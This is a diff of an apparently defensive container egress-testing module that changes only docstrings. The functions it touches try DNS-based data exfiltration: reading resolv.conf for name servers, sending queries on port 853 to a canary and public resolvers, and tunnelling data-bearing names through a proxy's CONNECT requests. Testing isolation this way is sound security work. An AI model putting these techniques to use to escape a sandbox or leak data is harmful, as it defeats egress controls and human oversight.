@@ -59,7 +59,7 @@ def resolver_of_our_own(attack: Attack) -> Iterator[Try]:
 
 @technique(PLACES)
 def resolver_that_is_configured(attack: Attack) -> Iterator[Try]:
-    """Query the container's configured name servers and Docker's for external names that contain data."""
+    """Query the configured name servers of the container, and Docker's, for external names that contain data."""
     servers = []
     with contextlib.suppress(OSError), Path("/etc/resolv.conf").open() as file:
         servers = [line.split()[1] for line in file if line.startswith("nameserver")]
@@ -84,7 +84,7 @@ def resolvers_of_hosts(attack: Attack) -> Iterator[Try]:
 
 @technique(PLACES)
 def dns_over_tls(attack: Attack) -> Iterator[Try]:
-    """Send DNS queries over TCP and UDP to port 853, which DNS over TLS and over QUIC use."""
+    """Send DNS queries over TCP and UDP to port 853, the port of DNS over TLS and DNS over QUIC."""
     for server in (attack.knowledge.canary, attack.knowledge.resolver, *RESOLVERS):
         yield attack.tries(f"TCP {server}", lambda server=server: over_tcp(server, 853, query(attack.denied)))
         yield attack.tries(f"UDP {server}", lambda server=server: over_udp(server, 853, query(attack.denied)))
@@ -107,7 +107,10 @@ def _tunnel(attack: Attack, target: str) -> str:
 
 @technique(ENFORCED)
 def tunnel_through_lookups(attack: Attack) -> Iterator[Try]:
-    """Request names that contain data in every form that the proxy accepts. It may resolve only allowed names."""
+    """Request names that contain data, in every form that the proxy accepts.
+
+    The proxy may resolve only allowed names.
+    """
     knowledge = attack.knowledge
     forms = (
         "CONNECT {n}:443 HTTP/1.1\r\nHost: {n}:443\r\n\r\n",
